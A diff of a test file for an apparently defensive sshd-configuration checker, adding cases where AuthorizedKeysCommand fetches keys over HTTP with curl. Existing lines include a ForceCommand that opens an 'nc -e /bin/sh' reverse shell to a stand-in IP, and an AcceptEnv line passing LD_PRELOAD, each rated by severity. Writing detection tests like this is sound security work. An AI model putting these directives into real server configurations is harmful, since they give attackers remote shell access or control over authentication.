@@ -70,6 +70,8 @@ describe('sshd', () => {
 		['AuthorizedKeysCommand /usr/local/bin/keys %u', 'medium'],
 		['AuthorizedKeysCommand /usr/bin/keyd %u', 'high'],
 		['AuthorizedKeysCommand /tmp/k', 'high'],
+		['AuthorizedKeysCommand /usr/bin/curl -s http://203.0.113.9/keys/%u', 'high'],
+		['AuthorizedKeysCommand /usr/bin/curl -s http://keys.example.net/%u', 'medium'],
 		['ForceCommand /bin/sh -c "nc -e /bin/sh 203.0.113.9 1"', 'critical'],
 		['AcceptEnv LANG LD_PRELOAD', 'high'],
 		['AcceptEnv *', 'medium'],
